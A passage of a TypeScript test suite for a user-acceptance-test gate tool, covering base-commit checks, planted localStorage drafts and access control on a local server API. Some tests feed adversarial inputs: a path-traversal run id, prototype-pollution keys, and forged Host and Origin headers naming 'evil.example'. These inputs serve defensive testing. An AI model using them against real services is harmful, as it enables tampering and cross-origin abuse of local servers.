    const [verdict, code] = how === 'delete' ? ['failed', 1] : ['stale', 3];
    const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
    expect(r.code).toBe(code);
    expect(r.stdout).toMatch(new RegExp(`^example-1\\.0\\.0: ${verdict}`));
    expect(r.stdout).toContain(how === 'delete' ? `- E1 (failed) is not triaged` : `${LATER}.json.orig`);
    const a = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate' }, { event, env: ENV_CANARIES });
    expect(a.outputs).toMatchObject({ verdict, 'exit-code': String(code) });
    expect((await cliCase(dir, ['uat', 'release-gate', '--base', base])).code).toBe(code);
  });
});

describe('#244 a write check the base records is evidence the change cannot rewrite', () => {
  const FAILED = { ...WRITE_OK, ok: false, by: 'Bea (ran the verify query: 0 rows)' };
  /** The base: an all-pass run whose writing step's check failed (nothing was written); the pull request is `change`. */
  function based(change: (t: ReturnType<typeof triage>) => void): { dir: string; base: string; event: unknown } {
    const dir = emptyRepo('proofgate-uat-checks-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    mkdirSync(join(dir, '_bmad'));
    writeFileSync(join(dir, '_bmad/config.yaml'), 'uat:\n  mode: gate\n');
    writeSpec(dir, EXAMPLE);
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    writeJson(triageFile(dir), triage([], [FAILED]));
    commitAll(dir, 'base: the write check failed');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    const t = triage([], [FAILED]);
    change(t);
    writeJson(triageFile(dir), t);
    commitAll(dir, 'the pull request');
    return { dir, base, event: { pull_request: { number: 7, base: { sha: base }, head: { sha: git(dir, 'rev-parse', 'HEAD').trim() } } } };
  }

  it('#244 the failed check flipped to ok: true in place: the gate with the base fails naming it (the action too)', async () => {
    const { dir, base, event } = based((t) => Object.assign(t.writeChecks[0] as object, { ok: true }));
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
    expect(r.code, r.stdout).toBe(1);
    expect(r.stdout).toContain(`${TF} no longer holds the write check of S2 recorded at the base`);
    const a = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
    expect(a.outputs).toMatchObject({ verdict: 'failed', 'exit-code': '1' });
    expect(a.summary).toContain('no longer holds the write check of S2');
  });

  it('#244 the failed check removed and a passing one written in its place: the gate with the base fails naming it', async () => {
    const { dir, base } = based((t) => {
      t.writeChecks = [{ ...WRITE_OK, at: '2026-11-29T11:05:00Z' }];
    });
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
    expect(r.code, r.stdout).toBe(1);
    expect(r.stdout).toContain(`${TF} no longer holds the write check of S2 recorded at the base`);
  });

  it('#244 a newer passing check added beside the failed one (a replayed verify) is read as it is', async () => {
    const { dir, base } = based((t) => {
      t.writeChecks.push({ ...WRITE_OK, at: '2026-11-29T11:05:00Z' });
    });
    const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
    expect(r.code, r.stdout).toBe(0);
  });
});

describe('#166 #167 #168 what the base holds, whatever the change does to it', () => {
  const LATER = 'run-20261130T100000Z-efgh';
  /** The base: a passing run, then a later one failing E1; the pull request is `change`. */
  function based(change: (dir: string) => void): { dir: string; base: string; event: unknown } {
    const dir = emptyRepo('proofgate-uat-based-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    mkdirSync(join(dir, '_bmad'));
    writeFileSync(join(dir, '_bmad/config.yaml'), 'uat:\n  mode: gate\n');
    writeSpec(dir, EXAMPLE);
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    const times = { startedAt: '2026-11-30T10:00:00.000Z', updatedAt: '2026-11-30T10:20:00.000Z', finishedAt: '2026-11-30T10:20:00.000Z' };
    writeJson(runFile(dir, LATER), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { runId: LATER, ...times }));
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2026-11-30T11:00:00Z' }], LATER));
    commitAll(dir, 'base: the latest run fails');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    change(dir);
    commitAll(dir, 'the pull request');
    const event = { pull_request: { number: 7, base: { sha: base }, head: { sha: git(dir, 'rev-parse', 'HEAD').trim() } } };
    return { dir, base, event };
  }

  it('#166 uat gate --base reads the runs where the base says they are: a change that moves the folder moves none', async () => {
    const { dir, base, event } = based((d) => {
      git(d, 'mv', UAT, 'acceptance');
      writeFileSync(join(d, '_bmad/config.yaml'), 'uat:\n  mode: gate\n  dir: acceptance\n');
      rmSync(join(d, 'acceptance/results', ID, `${LATER}.json`));
      writeJson(join(d, 'acceptance/triage', `${ID}.json`), triage([]));
    });
    // Without the base the moved, older pass is the latest, and stale only because the settings file changed (row 293).
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(3);
    expect((await cliCase(dir, ['uat', 'gate', ID, '--base', base])).code).not.toBe(0);
    const a = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
    expect(a.outputs.verdict).not.toBe('passed');
  });

  it('#167 a finished run the base holds, edited by the change (an answer flipped, its times moved back): the base run is gated, the edit named', async () => {
    for (const edit of [{ E1: 'pass' }, { startedAt: '2026-11-28T10:00:00.000Z' }]) {
      const { dir, base, event } = based((d) => {
        const run = JSON.parse(readFileSync(runFile(d, LATER), 'utf8'));
        if ('E1' in edit) run.answers.find((x: { expect: string }) => x.expect === 'E1').status = 'pass';
        else Object.assign(run, edit, { updatedAt: '2026-11-28T10:20:00.000Z', finishedAt: '2026-11-28T10:20:00.000Z' });
        writeJson(runFile(d, LATER), run);
      });
      const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
      expect(r.code, JSON.stringify(edit)).toBe(1);
      expect(r.stdout).toContain(`${LATER}.json is not a usable run: it edits a finished run the base`);
      expect(r.stdout).toContain('- E1 (failed) is not triaged');
      const a = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
      expect(a.outputs).toMatchObject({ verdict: 'failed', 'exit-code': '1' });
    }
  });

  it('#174 a merge queue group is judged by its base as a pull request is: its settings, the runs it removes, the recipes it deletes', async () => {
    const { dir, base } = based((d) => {
      writeFileSync(join(d, '_bmad/config.yaml'), 'uat:\n  mode: off\n');
      rmSync(runFile(d, LATER));
      writeJson(triageFile(d), triage([]));
    });
    const head = git(dir, 'rev-parse', 'HEAD').trim();
    const queued = {
      merge_group: { base_sha: base, head_sha: head, base_ref: 'refs/heads/main', head_ref: 'refs/heads/gh-readonly-queue/main/pr-7' },
    };
    const env = { ...ENV_CANARIES, GITHUB_EVENT_NAME: 'merge_group' };
    const a = await actionCase('uat-gate.js', dir, { id: ID }, { event: queued, env });
    // The group changes _bmad/config.yaml, code the base's failing run did not test: stale before its failure (row 296).
    expect(a.outputs).toMatchObject({ mode: 'gate', verdict: 'stale', 'exit-code': '3' });
    expect(a.summary).toContain('This change edits the uat settings in `_bmad/config.yaml`; they apply after merge.');
    const release = await actionCase('uat-gate.js', dir, { 'from-package-version': 'true' }, { event: queued, env });
    expect(release.outputs.verdict).toBe('stale');
  });

  it('#201 a change to merge with no one named in forbid-tester warns, in a merge queue group saying its event names no author', async () => {
    const { dir, base, event } = based((d) => writeFileSync(join(d, 'notes.md'), 'notes\n'));
    const head = git(dir, 'rev-parse', 'HEAD').trim();
    const queued = {
      merge_group: { base_sha: base, head_sha: head, base_ref: 'refs/heads/main', head_ref: 'refs/heads/gh-readonly-queue/main/pr-7' },
    };
    const env = { ...ENV_CANARIES, GITHUB_EVENT_NAME: 'merge_group' };
    // The documented `${{ github.event.pull_request.user.login }}` is empty in a merge queue group.
    const q = await actionCase('uat-gate.js', dir, { id: ID, 'forbid-tester': '' }, { event: queued, env });
    const warned = (r: typeof q) => r.commands.filter((c) => c.startsWith('::warning::') && c.includes('forbid-tester names no one'));
    expect(warned(q)).toHaveLength(1);
    expect(warned(q)[0]).toContain("a merge queue group's event names no pull request author");
    expect(q.summary).toContain('forbid-tester names no one');
    const pr = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
    expect(warned(pr)[0]).toContain("name the pull request's author");
    const named = await actionCase('uat-gate.js', dir, { id: ID, 'forbid-tester': 'mallory' }, { event: queued, env });
    expect(warned(named)).toEqual([]);
    expect(named.outputs.verdict).toBe(q.outputs.verdict);
  });

  it('#168 a recipe the base holds over 256 KiB (a spec may be 512) is still the base release: deleting it does not take it out', async () => {
    // Within the page budget (15 steps), long instructions: about 300 KiB.
    const long = (i: number, j: number) =>
      `Step ${i}.${j}: ${'check the field, then read the message under it carefully; '.repeat(8)}`.slice(0, 500);
    const steps = Array.from({ length: 15 }, (_, i) => ({
      id: `S${i + 1}`,
      where: `Checkout screen ${i + 1}`,
      do: Array.from({ length: 20 }, (_, j) => long(i, j)),
      expect: Array.from({ length: 20 }, (_, j) => ({ id: `E${i + 1}_${j + 1}`, text: long(i, j) })),
      labels: [`Screen ${i + 1}`],
    }));
    const big = { ...ownRecipe('pay-1.0.0', '1.0.0'), steps };
    const repo = emptyRepo('proofgate-uat-big-');
    writeFileSync(join(repo, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(repo, EXAMPLE);
    writeSpec(repo, big);
    writeJson(runFile(repo), makeRun(EXAMPLE, ALL_PASS));
    writeJson(triageFile(repo), triage([]));
    commitAll(repo, 'base: release 1.0.0 with a large recipe not played yet');
    const at = git(repo, 'rev-parse', 'HEAD').trim();
    expect((await cliCase(repo, ['uat', 'lint', 'pay-1.0.0'])).code).toBe(0);
    rmSync(join(repo, UAT, 'specs', 'pay-1.0.0.json'));
    commitAll(repo, 'the pull request deletes it');
    const r = await cliCase(repo, ['uat', 'release-gate', '--base', at]);
    expect(r.code).toBe(4);
    expect(r.stdout).toContain('pay-1.0.0.json may be a recipe of 1.0.0: the base has it as a recipe of 1.0.0, and the change deletes it');
  });
});

describe('#183 uat serve: a run no page of this browser started is never taken up', () => {
  it('#183 an unfinished run committed by hand: a fresh browser asks for a name and starts its own run; the planted answers sign nothing', async () => {
    const dir = project();
    const planted = makeRun(EXAMPLE, { E1: 'pass', E2: 'pass', E3: 'pass' }, { finishedAt: null, revision: 3 });
    writeJson(runFile(dir), planted);
    const { child, url } = await serve(dir, 0);
    const browser = await freshBrowser();
    try {
      const page = await (await browser.newContext()).newPage();
      await page.goto(url);
      await page.waitForSelector('body[data-ready="1"]');
      // The start screen: the name is asked, no step of the planted run is on show.
      await page.fill('#tester-name', 'Bob Test', { timeout: 30_000 });
      await page.click('#start');
      await page.waitForSelector('#status[data-state="project"]');
      await page.click('[data-expect="E1"] [data-choice="pass"]');
      const results = join(dir, UAT, 'results', ID);
      await expect.poll(() => readdirSync(results).length).toBe(2);
      expect(JSON.parse(readFileSync(runFile(dir), 'utf8'))).toEqual(planted);
      const mine = join(
        results,
        readdirSync(results).find((f) => f !== `${RUN_ID}.json`)!,
      );
      const answered = () =>
        (JSON.parse(readFileSync(mine, 'utf8')).answers as { expect: string; status: string | null }[])
          .filter((a) => a.status !== null)
          .map((a) => a.expect);
      // Written at every tick: the page's own run holds only what this browser answered.
      await expect.poll(answered).toEqual(['E1']);
      expect(JSON.parse(readFileSync(mine, 'utf8')).tester).toBe('Bob Test');
    } finally {
      await browser.close();
      child.kill('SIGTERM');
      await exited(child);
    }
  });
});

/** The built page and a hostile local HTML file, each opened from disk (file://, one storage for both). */
async function pages() {
  const dir = project();
  const b = await cliCase(dir, ['uat', 'build', ID]);
  expect(b.code, b.stderr).toBe(0);
  const hostile = join(dir, 'docs', 'preview.html');
  mkdirSync(join(dir, 'docs'), { recursive: true });
  writeFileSync(hostile, '<!doctype html><title>preview</title><p>preview</p>');
  const browser = await freshBrowser();
  const ctx = await browser.newContext({ acceptDownloads: true });
  return { browser, ctx, dir, page: pathToFileURL(join(dir, UAT, `pages/uat-${ID}.html`)).href, hostile: pathToFileURL(hostile).href };
}
/** What a local HTML file writes: every check passed, finished, signed by a name of its choice. */
const plant = (page: Page, over: Record<string, unknown> = {}) =>
  page.evaluate(([key, run]) => (globalThis as any).localStorage.setItem(key, JSON.stringify(run)), [
    `proofgate-uat:${ID}`,
    makeRun(EXAMPLE, ALL_PASS, { tester: 'Mallory', ...over }),
  ] as const);

describe('#245 the built page takes up only the run its own tab started', () => {
  const draft = (page: Page) =>
    page.evaluate((key) => (globalThis as any).localStorage.getItem(key) as string | null, `proofgate-uat:${ID}`);

  it('adversarial 245 a finished run another file:// page planted before the page opens: offered, never shown as the run nor exported; the tester starts their own', async () => {
    const { browser, ctx, page: url, hostile } = await pages();
    try {
      const evil = await ctx.newPage();
      await evil.goto(hostile);
      await plant(evil);
      const page = await ctx.newPage();
      await page.goto(url);
      await page.waitForSelector('body[data-ready="1"]');
      // Not taken up: the start screen, no done screen, nothing to export; the planted draft is offered, naming it.
      expect(await page.locator('.done').count()).toBe(0);
      expect(await page.isDisabled('#export')).toBe(true);
      expect(await page.textContent('#foreign')).toContain('Mallory');
      await page.fill('#tester-name', 'Ana Test');
      await page.click('#start');
      await page.click('[data-expect="E1"] [data-choice="fail"]');
      await page.fill('#note-E1', 'no page opened');
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
      const exported = JSON.parse(readFileSync(await download.path(), 'utf8'));
      expect(exported).toMatchObject({ tester: 'Ana Test', finishedAt: null });
      expect(exported.runId).not.toBe(RUN_ID);
      expect(exported.answers.map((a: { status: string | null }) => a.status)).toEqual(['fail', null, null, null, null]);
      // The planted draft is kept apart, not lost and not mixed in.
      expect(await page.evaluate((k) => (globalThis as any).localStorage.getItem(k), `proofgate-uat:${ID}:set-aside:${RUN_ID}`)).toContain(
        'Mallory',
      );

      // While the tester plays, another file:// page writes a finished run: another run, or this one under another name.
      const mine = JSON.parse((await draft(page))!);
      await plant(evil);
      await plant(evil, { runId: mine.runId, revision: mine.revision + 5 });
      await plant(evil, { runId: mine.runId, tester: mine.tester, startedAt: mine.startedAt, revision: mine.revision + 9 });
      await page.waitForSelector('[data-notice="other_tab"]');
      // A reload, which this tab's own copy answers.
      await page.reload();
      await page.waitForSelector('body[data-ready="1"]');
      expect(await page.locator('.done').count()).toBe(0);
      const [again] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
      const after = JSON.parse(readFileSync(await again.path(), 'utf8'));
      expect(after).toMatchObject({ runId: mine.runId, tester: 'Ana Test', finishedAt: null });
      expect(after.answers.map((a: { status: string | null }) => a.status)).toEqual(['fail', null, null, null, null]);

      // A new tab has no run of its own: the draft is offered; taken up only when the tester says so, reopened at the first step.
      const other = await ctx.newPage();
      await plant(evil);
      await other.goto(url);
      await other.waitForSelector('body[data-ready="1"]');
      expect(await other.locator('.done').count()).toBe(0);
      // One full run (2026-12-05) waited 30 s for this button in vain: if it does not show, say what the tab holds.
      await other.waitForSelector('#resume', { timeout: 30_000 }).catch(async (err: Error) => {
        const seen = await other.evaluate(
          (key) => ({
            main: (globalThis as any).document.querySelector('main')?.textContent?.slice(0, 120),
            notices: [...(globalThis as any).document.querySelectorAll('[data-notice]')].map((n: any) => n.getAttribute('data-notice')),
            draft: ((d) => d && { tester: d.tester, runId: d.runId, finishedAt: d.finishedAt, revision: d.revision })(
              JSON.parse((globalThis as any).localStorage.getItem(key) ?? 'null'),
            ),
            tab: (globalThis as any).sessionStorage.length,
          }),
          `proofgate-uat:${ID}`,
        );
        throw new Error(`${err.message}\nthe new tab shows: ${JSON.stringify(seen)}`);
      });
      await other.click('#resume');
      expect(await other.getAttribute('[data-step]', 'data-step')).toBe('S1');
      expect(JSON.parse((await draft(other))!).finishedAt).toBeNull();
    } finally {
      await browser.close();
    }
  });
});

describe('#652 no language, status or field read from storage or a draft makes the page record a run uat import refuses', () => {
  /** Names Object.prototype answers to, and strings shaped almost like a language. */
  const NOT_LANGS = ['constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty', 'xx', 'EN', 'en-US'];
  /** Pass on every check of each step, then Next, to Finish. */
  async function playToEnd(page: Page): Promise<void> {
    for (;;) {
      const open = page.locator('[data-choice="pass"][aria-pressed="false"]');
      while (await open.count()) await open.first().click();
      if (await page.locator('#finish').count()) break;
      await page.click('#next');
    }
    await page.click('#finish');
    await page.waitForSelector('.done');
  }
  /** The export, and what `uat import` says of it. */
  async function exported(dir: string, page: Page): Promise<{ run: any; code: number; stderr: string }> {
    expect(await page.getAttribute('#status', 'data-state')).toBe('local');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    const file = join(dir, 'export.json');
    cpSync(await download.path(), file);
    const imp = await cliCase(dir, ['uat', 'import', ID, file]);
    return { run: JSON.parse(readFileSync(file, 'utf8')), code: imp.code, stderr: imp.stderr };
  }

  for (const value of NOT_LANGS) {
    it(`#652 a language ${JSON.stringify(value)} another file:// page left in storage: the run is in English, saved, exported and imported`, async () => {
      const { browser, ctx, dir, page: url, hostile } = await pages();
      try {
        const evil = await ctx.newPage();
        await evil.goto(hostile);
        await evil.evaluate((v) => (globalThis as any).localStorage.setItem('proofgate-uat-lang', v), value);
        const page = await ctx.newPage();
        const errors: string[] = [];
        page.on('pageerror', (e) => errors.push(e.message));
        await page.goto(url);
        await page.waitForSelector('body[data-ready="1"]');
        expect(await page.getAttribute('html', 'lang')).toBe('en');
        expect(await page.inputValue('#lang')).toBe('en');
        await page.fill('#tester-name', 'Ana Test');
        await page.click('#start');
        await playToEnd(page);
        const { run, code, stderr } = await exported(dir, page);
        expect(run.lang).toBe('en');
        expect(code, stderr).toBe(0);
        expect(errors).toEqual([]);
      } finally {
        await browser.close();
      }
    });

    it(`#652 a planted draft in language ${JSON.stringify(value)}, resumed: played to the end in English, exported and imported`, async () => {
      const { browser, ctx, dir, page: url, hostile } = await pages();
      try {
        const evil = await ctx.newPage();
        await evil.goto(hostile);
        await plant(evil, { lang: value });
        const page = await ctx.newPage();
        await page.goto(url);
        await page.waitForSelector('body[data-ready="1"]');
        await page.click('#resume');
        expect(await page.getAttribute('html', 'lang')).toBe('en');
        expect(
          JSON.parse(await page.evaluate((k) => (globalThis as any).localStorage.getItem(k) as string, `proofgate-uat:${ID}`)).lang,
        ).toBe('en');
        await playToEnd(page);
        const { run, code, stderr } = await exported(dir, page);
        expect(run.lang).toBe('en');
        expect(code, stderr).toBe(0);
      } finally {
        await browser.close();
      }
    });
  }

  it('#652 a resumed draft the run schema refuses (a status `constructor`, a run id with `..`): never said saved nor exported; the status names why', async () => {
    const { browser, ctx, page: url, hostile } = await pages();
    try {
      const evil = await ctx.newPage();
      await evil.goto(hostile);
      let page = evil;
      for (const [over, why] of [
        [{ runId: 'run..x' }, '/runId'],
        [{ answers: makeRun(EXAMPLE, { ...ALL_PASS, E1: 'constructor' }).answers }, '/answers/0/status'],
      ] as const) {
        await plant(evil, over);
        // A new tab each: one holds a run this tab started.
        page = await ctx.newPage();
        await page.goto(url);
        await page.waitForSelector('body[data-ready="1"]');
        await page.click('#resume');
        expect(await page.getAttribute('#status', 'data-state')).toBe('invalid');
        expect(await page.textContent('#status')).toContain(why);
        expect(await page.isDisabled('#export')).toBe(true);
        // Nothing was written over what the other page left: the draft is still its, unchanged.
        expect(
          JSON.parse(await page.evaluate((k) => (globalThis as any).localStorage.getItem(k) as string, `proofgate-uat:${ID}`)).revision,
        ).toBe(12);
      }
      // An answer the tester gives makes the run whole again: the refused status is replaced, and the page saves.
      await page.click('[data-expect="E1"] [data-choice="pass"]');
      expect(await page.getAttribute('#status', 'data-state')).toBe('local');
    } finally {
      await browser.close();
    }
  });

  it('#652 uat serve: a language another page of the origin left in storage, then a tick: saved in the project, in English; no other site may frame the page', async () => {
    const dir = project();
    const { child, url, base } = await serve(dir, 0);
    const browser = await freshBrowser();
    try {
      const res = await fetch(base);
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
      const page = await (await browser.newContext()).newPage();
      await openAddress(page, url);
      await page.evaluate(() => (globalThis as any).localStorage.setItem('proofgate-uat-lang', 'constructor'));
      await page.reload();
      await page.waitForSelector('body[data-ready="1"]');
      await page.fill('#tester-name', 'Ana Test');
      await page.click('#start');
      await page.click('[data-expect="E1"] [data-choice="pass"]');
      await page.waitForSelector('#status[data-state="project"][data-revision="2"]');
      const results = join(dir, UAT, 'results', ID);
      const [name] = readdirSync(results);
      expect(JSON.parse(readFileSync(join(results, name!), 'utf8'))).toMatchObject({ lang: 'en', revision: 2 });
    } finally {
      await browser.close();
      child.kill('SIGTERM');
      await exited(child);
    }
  });
});

describe('#204 uat serve: what the tester signs is what they answered on this page', () => {
  /** A tester on the served page: their draft, one answer with its save settled (in the project, or refused there). */
  function tester(page: import('playwright-core').Page) {
    const draft = async () =>
      JSON.parse((await page.evaluate(() => (globalThis as any).localStorage.getItem('proofgate-uat:example-1.0.0'))) as string);
    const settled = async () => page.waitForSelector(`#status[data-revision="${(await draft()).revision}"]:not([data-state="saving"])`);
    return {
      draft,
      settled,
      tick: async (id: string, choice: string) => {
        await page.click(`[data-expect="${id}"] [data-choice="${choice}"]`);
        await settled();
      },
    };
  }
  /** `uat serve` and a browser; the page started by Ana, who answers E1 and E2; their run file. */
  async function started(dir: string, run: (t: any) => Promise<void>) {
    const { child, url, token } = await serve(dir, 0);
    let log = '';
    child.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    const browser = await freshBrowser();
    try {
      const page = await (await browser.newContext()).newPage();
      const t = tester(page);
      await page.goto(url);
      await page.waitForSelector('body[data-ready="1"]');
      await page.fill('#tester-name', 'Ana Test');
      await page.click('#start');
      await page.waitForSelector('#status[data-state="project"]');
      await t.tick('E1', 'pass');
      await page.click('#next');
      await t.tick('E2', 'pass');
      const results = join(dir, UAT, 'results', ID);
      const [name] = readdirSync(results);
      const file = join(results, name!);
      expect(JSON.parse(readFileSync(file, 'utf8')).answers.map((a: any) => a.status)).toEqual(['pass', 'pass', null, null, null]);
      await run({ ...t, page, file, token, shown: `${UAT}/results/${ID}/${name}`, log: () => log });
    } finally {
      await browser.close();
      child.kill('SIGTERM');
      await exited(child);
    }
  }
  /** The rest of the example played to Finish. */
  async function toFinish(t: any) {
    await t.tick('E3', 'pass');
    await t.page.click('#next');
    await t.tick('E4', 'pass');
    await t.tick('E5', 'pass');
    await t.page.click('#finish');
    await t.page.waitForSelector('.done');
    await t.settled();
  }
  const ALL_MINE = [
    ['pass', ''],
    ['pass', ''],
    ['pass', ''],
    ['pass', ''],
    ['pass', ''],
  ];

  it('#204 the run file edited on disk while the page is open (an answer flipped, a note, its revision bumped), then a reload: never taken up, never signed; saving and finishing are refused, naming the file', async () => {
    const dir = project();
    await started(dir, async (t) => {
      // A third party (the agent in the same checkout, a script) rewrites the tester's run file.
      const edited = JSON.parse(readFileSync(t.file, 'utf8'));
      edited.answers[0] = { ...edited.answers[0], status: 'fail', note: 'the page showed an error' };
      edited.answers[1].note = 'only after a retry';
      edited.revision += 100;
      edited.updatedAt = new Date().toISOString();
      writeJson(t.file, edited);
      const editedText = readFileSync(t.file, 'utf8');

      // The tester reloads and plays on to the end.
      await t.page.reload();
      await t.page.waitForSelector('body[data-ready="1"]');
      await toFinish(t);
      const mine = await t.draft();

      // The page holds only what the tester answered; the edit was never signed under their name.
      expect(mine.answers.map((a: any) => [a.status, a.note])).toEqual(ALL_MINE);
      expect(mine.finishedAt).not.toBeNull();
      const stored = JSON.parse(readFileSync(t.file, 'utf8'));
      expect(stored.finishedAt === null || stored.answers[0].status === 'pass').toBe(true);
      // Refused, not repaired: the file is left as the third party wrote it, named to the tester and in the log.
      expect(readFileSync(t.file, 'utf8')).toBe(editedText);
      expect(await t.page.textContent('[data-notice="changed_outside"]')).toContain(t.shown);
      expect(await t.page.getAttribute('#status', 'data-state')).toBe('outside');
      expect(await t.page.textContent('.done')).not.toContain('already in the project');
      await expect
        .poll(t.log)
        .toMatch(
          new RegExp(`refused run ${mine.runId} revision ${mine.revision} \\(${t.shown.replace(/\./g, '\\.')}\\): .*changed outside`),
        );
      // The state the page is given back is the tester's own copy, never the file's.
      const state: any = await t.page.evaluate(
        async ([id, key]: readonly [string, string]) =>
          (await fetch(`/api/state?run=${id}`, { headers: { 'x-proofgate-token': key } })).json(),
        [mine.runId, t.token] as const,
      );
      expect(state.run.answers[0].status).toBe('pass');
      expect(state.run.revision).toBeLessThan(edited.revision);
      expect(state.outside.file).toBe(t.shown);
      expect((await cliCase(dir, ['uat', 'gate', ID])).code).not.toBe(0);
    });
  });

  it('#204 without a reload: an edit keeping the revision (an answer written in for a check not reached yet) or a removed file is refused at the next tick and at Finish, never written over', async () => {
    for (const change of ['moved', 'removed'] as const) {
      const dir = project();
      await started(dir, async (t) => {
        if (change === 'removed') rmSync(t.file);
        else {
          const edited = JSON.parse(readFileSync(t.file, 'utf8'));
          edited.answers[2].status = 'fail';
          edited.answers[2].note = 'BK- was missing';
          writeJson(t.file, edited);
        }
        const before = existsSync(t.file) ? readFileSync(t.file, 'utf8') : null;
        await toFinish(t);
        expect((await t.draft()).answers.map((a: any) => [a.status, a.note])).toEqual(ALL_MINE);
        expect(existsSync(t.file) ? readFileSync(t.file, 'utf8') : null).toBe(before);
        expect(await t.page.textContent('[data-notice="changed_outside"]')).toContain(t.shown);
        expect(await t.page.getAttribute('#status', 'data-state')).toBe('outside');
      });
    }
  });

  it('#204 an expected result edited in the spec while the page is open: Finish is refused (the page is out of date), nothing is signed', async () => {
    const dir = project();
    await started(dir, async (t) => {
      const changed = structuredClone(EXAMPLE);
      changed.steps[1].expect[1].text = 'The booking number shown starts with XX-';
      writeSpec(dir, changed);
      await toFinish(t);
      await t.page.waitForSelector('[data-notice="stale_page"]');
      expect(JSON.parse(readFileSync(t.file, 'utf8')).finishedAt).toBeNull();
      expect((await cliCase(dir, ['uat', 'gate', ID])).code).not.toBe(0);
    });
  });
});

describe('#205 uat serve: only the page the tester opened reads or writes through the API', () => {
  it('#205 a local process without the key, with a wrong one, with the key but a foreign Host or Origin: 403, nothing written, nothing taken up; the page saves to Finish', async () => {
    const dir = project();
    const { child, url, base, token } = await serve(dir, 0);
    let log = '';
    child.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    let out = '';
    child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
    const browser = await freshBrowser();
    try {
      const page = await (await browser.newContext()).newPage();
      const draft = async () =>
        JSON.parse((await page.evaluate(() => (globalThis as any).localStorage.getItem('proofgate-uat:example-1.0.0'))) as string);
      const tick = async (id: string) => {
        await page.click(`[data-expect="${id}"] [data-choice="pass"]`);
        await page.waitForSelector(`#status[data-state="project"][data-revision="${(await draft()).revision}"]`);
      };
      await page.goto(url);
      await page.waitForSelector('body[data-ready="1"]');
      await page.fill('#tester-name', 'Ana Test');
      await page.click('#start');
      await page.waitForSelector('#status[data-state="project"]');
      await tick('E1');
      const mine = await draft();
      const file = runFile(dir, mine.runId);
      const before = readFileSync(file, 'utf8');

      // Another local process (a script, the agent in the same checkout, another user): the tester's run answered
      // otherwise and far ahead, and a finished run of its own.
      const forged = {
        ...mine,
        revision: mine.revision + 100,
        updatedAt: new Date().toISOString(),
        answers: mine.answers.map((a: any) => (a.expect === 'E1' ? { ...a, status: 'fail', note: 'forged' } : a)),
      };
      const planted = makeRun(EXAMPLE, ALL_PASS, { runId: 'run-planted', tester: 'Eve' });
      const wrong = Buffer.alloc(32, 7).toString('base64url');
      const key = (k: string) => ({ 'x-proofgate-token': k });
      const senders: [string, Record<string, string>, string][] = [
        ['no key', {}, 'token'],
        ['an empty key', key(''), 'token'],
        ['a wrong key', key(wrong), 'token'],
        ['the key cut short', key(token.slice(0, -1)), 'token'],
        ['the key, a foreign Host (DNS rebinding)', { ...key(token), host: 'evil.example' }, 'host'],
        ['the key, the Host of another port', { ...key(token), host: 'localhost:1' }, 'host'],
        ['the key, a foreign Origin', { ...key(token), origin: 'http://evil.example' }, 'origin'],
      ];
      for (const [who, headers, reason] of senders) {
        const state = await call(`${base}api/state?run=${mine.runId}`, { headers });
        expect({ who, status: state.status, json: state.json }).toEqual({
          who,
          status: 403,
          json: { saved: false, reason, message: expect.any(String) },
        });
        for (const run of [forged, planted]) {
          const r = await call(base + 'api/run', {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...headers },
            body: JSON.stringify(run),
          });
          expect({ who, runId: run.runId, status: r.status, reason: r.json?.reason }).toEqual({
            who,
            runId: run.runId,
            status: 403,
            reason,
          });
        }
      }
      // The preflight a page of another site needs before it may send the key is never approved.
      const preflight = await call(base + 'api/run', {
        method: 'OPTIONS',
        headers: {
          origin: 'http://evil.example',
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'x-proofgate-token',
        },
      });
      expect(preflight.status).toBe(403);
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();

      // Nothing was written; the page (reloaded: the key is kept for its tab) takes nothing up and plays on to Finish.
      expect(readFileSync(file, 'utf8')).toBe(before);
      expect(readdirSync(join(dir, UAT, 'results', ID))).toEqual([`${mine.runId}.json`]);
      await page.reload();
      await page.waitForSelector('body[data-ready="1"]');
      await tick('E2');
      await page.click('#next');
      await tick('E3');
      await page.click('#next');
      await tick('E4');
      await tick('E5');
      await page.click('#finish');
      await page.waitForSelector('.done');
      await page.waitForSelector(`#status[data-state="project"][data-revision="${(await draft()).revision}"]`);
      const stored = JSON.parse(readFileSync(file, 'utf8'));
      expect(stored).toEqual(await draft());
      expect(stored.answers.map((a: any) => [a.status, a.note])).toEqual(Array(5).fill(['pass', '']));
      expect(stored.finishedAt).not.toBeNull();

      // The key is in the address printed on the tester's terminal and nowhere else: not in the address bar,
